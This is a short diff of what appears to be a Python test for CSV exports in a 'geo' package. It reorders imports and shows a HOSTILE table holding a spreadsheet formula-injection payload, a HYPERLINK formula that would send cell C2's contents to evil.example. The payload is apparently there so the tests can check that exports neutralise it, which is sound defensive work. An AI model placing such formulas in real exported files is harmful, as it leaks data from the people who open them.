@@ -6,10 +6,10 @@ on the council officer's computer and could send other cells to another host.
 
 import csv
 
-from geo import exports
 from geo.cli import main
-from geo.db import Store
+from geo.io import exports
 from geo.permissions import COMMAND_LINE
+from geo.storage.db import Store
 
 HOSTILE = {
     "=": '=HYPERLINK("http://evil.example/?leak="&C2,"Click")',
